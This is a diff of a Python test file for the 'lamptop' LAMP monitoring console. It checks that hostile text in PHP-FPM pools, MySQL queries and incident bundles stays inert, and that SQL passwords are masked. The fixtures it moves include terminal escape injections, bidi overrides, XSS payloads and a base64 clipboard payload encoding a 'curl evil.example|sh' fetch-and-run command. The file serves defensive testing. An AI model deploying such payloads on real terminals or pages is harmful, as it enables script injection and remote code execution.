@@ -28,6 +28,7 @@ import pytest
 
 from console.core.events import LogRecord, ProcInfo, StatusSample, SystemSample, Worker
 from console.core.recorder import Recorder, Snapshot
+from console.core.stack import FpmSample, MysqlSample
 from console.core.text import bound, clean, is_clean, mask_secrets, md_code
 from console.incident.bundle import BundleError, write_bundle
 from console.incident.bundle_read import read_bundle
@@ -37,39 +38,12 @@ from console.parsing import make_parser
 from console.parsing.modstatus import NotModStatus, build_sample
 from console.view.filters import redact
 from tests.support.cli import lamptop
+from tests.support.hostile import ESC, FORBIDDEN, HOSTILE, assert_inert
 from tests.support.need import need_root
+from tests.support.stack_samples import fpm, mysql, proc, thread
 
 ROOT = Path(__file__).resolve().parent.parent
 T0 = datetime(2026, 11, 26, 15, 0, tzinfo=UTC)
-
-ESC = "\x1b"
-HOSTILE = [
-    f"{ESC}]0;owned title\x07",  # OSC 0: window title
-    f"{ESC}[2J{ESC}[H",  # clear the screen, cursor home
-    f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",  # OSC 52: clipboard
-    f"{ESC}P+q544e\x1b\\",  # DCS
-    "\x9b2J\x9d0;c1 title\x9c",  # C1 CSI and OSC
-    "abc\u202egnp.exe\u202c \u2066iso\u2069 \u200f",  # bidi override, isolate, mark
-    "line\u2028two\u2029three\rfour\x08\x7f",  # separators, carriage return, backspace, DEL
-    "[bold red]x[/]",
-    "[@click=app.screenshot('victim.conf','/tmp')]click[/]",
-    "stray [/] close",
-    "/![x](https://evil.example/t.png)",
-    "<script>alert(1)</script><img src=x onerror=alert(1)>",
-    "[link](javascript:alert(1)) https://evil.example/ www.evil.example",
-    "| a | b |\n`code` ``",
-    "nul\x00byte",
-]
-#: Raw bytes that must never appear in anything lamptop writes for a person or a terminal.
-FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f]")
-
-
-def assert_inert(text: str, where: str) -> None:
-    bad = FORBIDDEN.search(text)
-    if bad is not None:
-        around = text[max(bad.start() - 20, 0) : bad.start() + 20]
-        pytest.fail(f"{where}: raw {bad.group()!r} at {bad.start()}: {around!r}")
-
 
 # -- cleaning where text enters -----------------------------------------------------------------
 
@@ -262,7 +236,30 @@ def hostile_snapshot() -> Snapshot:
         status=(status,),
         system=(system,),
         states={},
+        fpm=hostile_fpm(),
+        mysql=hostile_mysql(),
     )
+
+
+def hostile_fpm() -> tuple[FpmSample, ...]:
+    """A pool at its limit whose name, requests, scripts and users are the hostile strings."""
+    procs = tuple(
+        proc(100 + i, clean(h), 60.0 - i, script=clean(h), user=clean(h), method=clean(h))
+        for i, h in enumerate(HOSTILE)
+    )
+    return (
+        fpm(0, pool=clean(HOSTILE[1]), active=8, idle=0, reached=1),
+        fpm(1, pool=clean(HOSTILE[1]), active=8, idle=0, queue=3, reached=2, processes=procs),
+    )
+
+
+def hostile_mysql() -> tuple[MysqlSample, ...]:
+    """A server running the hostile strings as queries, for hostile users from hostile hosts."""
+    threads = tuple(
+        thread(i, 100.0 - i, clean(h), user=clean(h), db=clean(h), host=clean(h), state=clean(h))
+        for i, h in enumerate(HOSTILE)
+    )
+    return (mysql(1, threads=threads, status={"Threads_connected": 150}),)
 
 
 def render_markdown(text: str) -> str:
@@ -292,6 +289,32 @@ def test_every_bundle_file_is_inert(tmp_path: Path) -> None:
     for tag in ("<img", "<a ", "<script", "<iframe"):
         assert tag not in html, tag
     assert "evil.example" in html  # the text is there, as text
+    report = (path / "report.md").read_text()
+    for title in ("## PHP-FPM", "## MySQL/MariaDB", "At the trigger:"):
+        assert title in report, title  # the hostile pool and queries went through the report
+    back, _ = read_bundle(path)
+    assert back.fpm == snap.fpm and back.mysql == snap.mysql
+
+
+def test_stack_rules_say_hostile_text_inert_with_and_without_redact(tmp_path: Path) -> None:
+    from console.incident.redact import redact_trigger
+    from console.incident.rules import DEFAULTS, RuleBook, build_rules
+
+    book = RuleBook(build_rules({"fpm_max_children": {"seconds": 0.0}}))
+    fired = [t for s in hostile_fpm() for t in book.on_fpm(s)]
+    fired += [t for s in hostile_mysql() for t in book.on_mysql(s)]
+    assert {t.rule for t in fired} == {
+        "fpm_max_children",
+        "mysql_connections_high",
+        "mysql_long_query",
+    }
+    assert set(DEFAULTS) >= {t.rule for t in fired}
+    for t in fired:
+        for said in (t.message, redact_trigger(t).message):
+            assert_inert(said, f"{t.rule} message")
+        path = write_bundle(hostile_snapshot(), t, tmp_path, window=3600, host="web1", redact=True)
+        for f in path.iterdir():
+            assert_inert(f.read_text(), f"{t.rule}: {f.name}")
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -742,3 +765,26 @@ def test_report_html_is_self_contained_and_inert(tmp_path: Path) -> None:
     labels = [t.text or "" for t in drawn.iter("{http://www.w3.org/2000/svg}text")]
     assert "<script>x</script>" in labels and "http_5xx_burst" in labels  # escaped text
     assert page.index("Likely culprit") < page.index("Timeline") < page.index("In-flight")
+
+
+@pytest.mark.parametrize(
+    ("sql", "masked"),
+    [
+        ("CREATE USER 'bob'@'%' IDENTIFIED BY 'Hunter2x'", "IDENTIFIED BY '****'"),
+        ("ALTER USER bob IDENTIFIED WITH mysql_native_password AS '*Hunter2x'", "AS '****'"),
+        ("SET PASSWORD FOR 'bob'@'%' = PASSWORD('Hunter2x')", "PASSWORD('****')"),
+        ('SET PASSWORD = "Hunter2x"', "SET PASSWORD = '****'"),
+        (
+            "CHANGE MASTER TO MASTER_PASSWORD='Hunter2x', MASTER_HOST='db2'",
+            "MASTER_PASSWORD='****'",
+        ),
+        ("GRANT ALL ON *.* TO bob IDENTIFIED BY PASSWORD '*Hunter2x'", "BY PASSWORD '****'"),
+        ("CREATE USER x IDENTIFIED VIA ed25519 USING PASSWORD('Hunter2x')", "PASSWORD('****')"),
+        ("ALTER USER u IDENTIFIED BY 'it''s \\' Hunter2x'", "IDENTIFIED BY '****'"),
+    ],
+)
+def test_passwords_in_sql_are_masked(sql: str, masked: str) -> None:
+    out = mask_secrets(sql)
+    assert "Hunter2x" not in out and masked in out, out
+    plain = "SELECT password FROM users WHERE id = 1"
+    assert mask_secrets(plain) == plain
